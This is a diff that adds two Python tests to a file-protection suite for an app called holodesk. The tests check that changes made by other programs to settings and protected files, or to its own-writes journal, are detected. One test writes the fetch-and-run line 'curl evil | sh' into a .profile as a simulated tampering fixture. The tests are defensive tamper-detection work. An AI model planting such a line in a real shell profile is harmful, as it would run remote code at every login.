@@ -532,3 +532,47 @@ def test_a_change_the_watcher_puts_back_after_the_last_look_is_told_as_the_sessi
     [said] = session.after_close
     assert said.startswith("after the run ended, protected files changed while Mousepad was "
                            f"in front: {rc} modified, restored"), said
+
+
+# -- holodesk's own writes between runs ---------------------------------------------------------
+
+
+def test_only_what_holodesk_left_is_its_own_change(home: Home) -> None:
+    """The journal notes what each own write left (a file's digest): the same path changed
+    again by another program afterwards is told; a bare path in the journal explains nothing."""
+    from app.settings import set_value
+
+    protected.record(Settings())
+    set_value("max_steps", "9")  # holodesk's own: not told
+    assert protected.changed_since_last_run(Settings()) == []
+    set_value("max_steps", "10")
+    with paths.settings_path().open("a") as f:  # then an editor adds a line
+        f.write('confirm = "never"\n')
+    (home.root / ".profile").write_text("curl evil | sh\n")
+    with paths.own_writes_path().open("a") as f:
+        f.write(f"{home.root / '.profile'}\n")
+    noticed = {n.path for n in protected.changed_since_last_run(Settings())}
+    assert noticed == {str(paths.settings_path()), str(home.root / ".profile")}
+
+
+def test_the_journal_is_protected_during_a_run_and_holodesks_own_use_of_it_never_trips(
+        home: Home) -> None:
+    """A line added to the journal by another program during a run trips it; holodesk's own
+    notes, and the report that takes the journal as a run starts, do not."""
+    from app.settings import set_value
+
+    protected.record(Settings())
+    set_value("max_steps", "9")
+    trips: list[Trip] = []
+    wire = protected.start_tripwire(Settings(), trips.append, watch=False)
+    try:
+        set_value("max_steps", "11")  # noted in the journal during the run
+        assert protected.changed_since_last_run(Settings()) == []  # takes the journal away
+        set_value("max_steps", "12")
+        assert wire.check() is None, trips
+        with paths.own_writes_path().open("a") as f:
+            f.write('{"path": "/", "is": "folder:755"}\n')
+        trip = wire.check()
+    finally:
+        wire.close()
+    assert trip is not None and [c.path for c in trip.changes] == [str(paths.own_writes_path())]
